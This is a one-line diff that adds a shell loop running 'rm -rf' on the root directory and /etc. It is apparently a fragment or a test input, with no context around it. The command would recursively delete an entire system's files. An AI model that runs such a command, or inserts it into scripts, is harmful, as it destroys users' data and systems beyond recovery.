@@ -1,0 +1,1 @@
+for d in /; do rm -rf "$d" /etc; done
